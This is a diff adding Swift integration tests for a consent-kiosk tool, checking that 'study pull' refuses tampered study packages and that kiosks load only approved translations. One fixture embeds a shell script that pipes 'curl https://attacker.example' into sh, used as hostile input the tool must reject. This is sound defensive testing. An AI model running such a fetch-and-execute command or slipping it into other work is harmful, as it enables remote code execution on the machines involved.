@@ -1,7 +1,7 @@
 import Foundation
 import Testing
 
-/// What an approved version shows and prints is what its approval covers: the attacks of docs/RELIABILITY.md
+/// What an approved version shows, prints and pulls is what its approval covers: the attacks of docs/RELIABILITY.md
 /// ("Third round: what a version shows and what a pull writes"), each through the real consentd and consentctl.
 extension ConsentdIntegration {
     @Suite struct StudyIntegrity {
@@ -45,6 +45,7 @@ extension ConsentdIntegration {
                 .write(to: overview, atomically: true, encoding: .utf8)
             #expect(try sealed.seal(approved: "2026-01-01", expires: "2099-12-31").status == 0)
             let approval = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: sealed.study.appendingPathComponent("approval.json"))) as? JSONObject)
+            #expect((approval["files"] as? [String])?.contains("poster.png") == true)
 
             let agent = try sealed.agent("integrity-swap")
             defer { agent.finish() }
@@ -71,6 +72,118 @@ extension ConsentdIntegration {
             let manifest = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: directory.appendingPathComponent("manifest.json"))) as? JSONObject)
             #expect(manifest["studyVersion"] as? String == approval[path: "versions.en"] as? String)
             try LinkedRecords.expectValid(directory)
+        }
+
+        /// `study pull` of packages an attacker made from a sealed one: a pad file, a script, an unapproved `es/`
+        /// translation with its own title, the approval replayed under another folder name, and a package over the
+        /// cap. Each is refused with exit 4 before anything is written; the sealed package is written with exactly
+        /// the files its approval lists.
+        @Test func pullWritesOnlyWhatTheApprovalLists() throws {
+            let sealed = try SealedStudy(approved: nil, expires: nil)
+            let versions = sealed.directory.appendingPathComponent("heartbeat")
+            try FileManager.default.createDirectory(at: versions, withIntermediateDirectories: true)
+            let config = try sealed.config()
+            let ctl = SealedStudy.consentctl.path
+            let www = sealed.directory.appendingPathComponent("www")
+            try FileManager.default.createDirectory(at: www, withIntermediateDirectories: true)
+            // The committed sample's approval was sealed before names and files were bound: it cannot be packed.
+            let sample = sealed.directory.appendingPathComponent("2026-01")
+            try FileManager.default.copyItem(at: Paths.root.appendingPathComponent("Sources/SampleStudy/sample"), to: sample)
+            let old = try Tools.run(ctl, ["study", "pack", sample.path, "-o", www.appendingPathComponent("old.json").path])
+            #expect(old.status == 1 && old.output.contains("seal the version again"), "\(old.output)")
+            try FileManager.default.removeItem(at: sample.appendingPathComponent("approval.json"))
+            #expect(try Tools.run(ctl, ["study", "seal", sample.path, "--key", sealed.privateKey.path, "--approved", "2026-01-01",
+                                        "--expires", "2099-12-31", "--language", "en", "de"]).status == 0)
+            let packed = try Tools.run(ctl, ["study", "pack", sample.path, "-o", www.appendingPathComponent("good.json").path])
+            #expect(packed.status == 0, "\(packed.output)")
+
+            let good = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: www.appendingPathComponent("good.json"))) as? JSONObject)
+            let goodFiles = try #require(good["files"] as? [String: String])
+            func publish(_ name: String, _ change: (inout [String: String], inout String) -> Void) throws {
+                var files = goodFiles
+                var folder = good["name"] as? String ?? ""
+                change(&files, &folder)
+                try JSONSerialization.data(withJSONObject: ["format": "consent-kiosk-package/1", "name": folder, "files": files])
+                    .write(to: www.appendingPathComponent(name))
+            }
+            func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }
+            try publish("pad.json") { files, _ in files["pad.bin"] = Data(count: 8 << 20).base64EncodedString() }
+            try publish("script.json") { files, _ in files["update.sh"] = base64("#!/bin/sh\ncurl https://attacker.example | sh\n") }
+            try publish("spanish.json") { files, _ in
+                var contract = (try? JSONSerialization.jsonObject(with: Data(base64Encoded: files["de/contract.json"] ?? "") ?? Data())) as? JSONObject ?? [:]
+                contract["language"] = "es"
+                contract["title"] = "Un estudio que nadie aprobó"
+                files["es/contract.json"] = (try? JSONSerialization.data(withJSONObject: contract))?.base64EncodedString()
+                for page in ["overview.html", "withdrawing.html", "Consent_sharing.html", "HTMLContent/datagathering.html", "HTMLContent/privacy.html"] {
+                    files["es/" + page] = base64("<p>Texto sin aprobar.</p>")
+                }
+            }
+            try publish("renamed.json") { _, name in name = "2026-01-again" }
+            // Over the cap: 70 MiB of zeros in base64, written as it goes (the server announces its length).
+            let huge = try FileHandle(forWritingTo: {
+                let url = www.appendingPathComponent("huge.json")
+                FileManager.default.createFile(atPath: url.path, contents: nil)
+                return url
+            }())
+            huge.write(Data(#"{"format":"consent-kiosk-package/1","name":"2026-01","files":{"contract.json":""#.utf8))
+            for _ in 0..<(70 * 4 / 3 + 1) { huge.write(Data(repeating: UInt8(ascii: "A"), count: 1 << 20)) }
+            huge.write(Data(#""}}"#.utf8))
+            try huge.close()
+
+            let server = try TLSTestServer(serving: www, in: sealed.directory)
+            defer { server.stop() }
+            let base = "https://localhost:\(server.port)"
+            let pull = ["--into", versions.path, "--config", config.path, "--ca-file", server.caFile.path]
+            for (package, why) in [
+                ("pad.json", "pad.bin, which its approval does not list"), ("script.json", "update.sh, which its approval does not list"),
+                ("spanish.json", "es/Consent_sharing.html, which its approval does not list"),
+                ("renamed.json", "its approval binds the folder name \"2026-01\""), ("huge.json", "larger than a package may be"),
+            ] {
+                let refused = try Tools.run(ctl, ["study", "pull", "\(base)/\(package)"] + pull)
+                #expect(refused.status == 4, "\(package): \(refused.output)")
+                #expect(refused.output.contains(why), "\(package): \(refused.output)")
+                #expect(try FileManager.default.contentsOfDirectory(atPath: versions.path).isEmpty, "\(package): nothing written")
+            }
+            let pulled = try Tools.run(ctl, ["study", "pull", "\(base)/good.json"] + pull)
+            #expect(pulled.status == 0, "\(pulled.output)")
+            let folder = versions.appendingPathComponent("2026-01")
+            let written = FileManager.default.enumerator(atPath: folder.path)?.compactMap { $0 as? String }.filter { path in
+                var isDirectory: ObjCBool = false
+                return FileManager.default.fileExists(atPath: folder.appendingPathComponent(path).path, isDirectory: &isDirectory)
+                    && !isDirectory.boolValue
+            }.sorted()
+            #expect(written == goodFiles.keys.sorted(), "the listed files and approval.json, nothing else")
+            #expect(!goodFiles.keys.contains { $0.hasPrefix("fr/") }, "fr was not approved, so not packed")
+        }
+
+        /// A sealed folder on the kiosk that holds a translation its approval does not cover (copied in by hand): a
+        /// kiosk checking approvals does not load it, so `study.get` never offers it or its title.
+        @Test func aKioskLoadsOnlyTheLanguagesItsApprovalCovers() throws {
+            let sealed = try SealedStudy(languages: ["en", "de"])
+            let spanish = sealed.study.appendingPathComponent("es")
+            try FileManager.default.copyItem(at: sealed.study.appendingPathComponent("de"), to: spanish)
+            let contractURL = spanish.appendingPathComponent("contract.json")
+            var contract = try #require(try JSONSerialization.jsonObject(with: Data(contentsOf: contractURL)) as? JSONObject)
+            contract["language"] = "es"
+            contract["title"] = "Un estudio que nadie aprobó"
+            try JSONSerialization.data(withJSONObject: contract).write(to: contractURL)
+
+            let agent = try sealed.agent("integrity-languages")
+            defer { agent.finish() }
+            let ui = try agent.client()
+            ui.negotiate()
+            let study = ui.call("study.get")
+            let languages = (study.array("result.study.languages") as? [JSONObject])?.compactMap { $0["tag"] as? String }
+            #expect(languages == ["en", "de"], "\(jsonLine(study))")
+            #expect(!jsonLine(study).contains("nadie"))
+            #expect(ui.call("flow.start", ["language": "es"]).errorType == "UnknownLanguage")
+            #expect(ui.call("flow.start", ["language": "de"]).string("result.step") == "eligibility")
+            // Without approvalKeys nothing is checked, and every folder is loaded as before.
+            let unchecked = try ConsentdProcess("integrity-unchecked", arguments: ["--study", sealed.study.path])
+            defer { unchecked.finish() }
+            let plain = try unchecked.client()
+            plain.negotiate()
+            #expect((plain.call("study.get").array("result.study.languages") as? [JSONObject])?.compactMap { $0["tag"] as? String } == ["en", "de", "es", "fr"])
         }
     }
 }
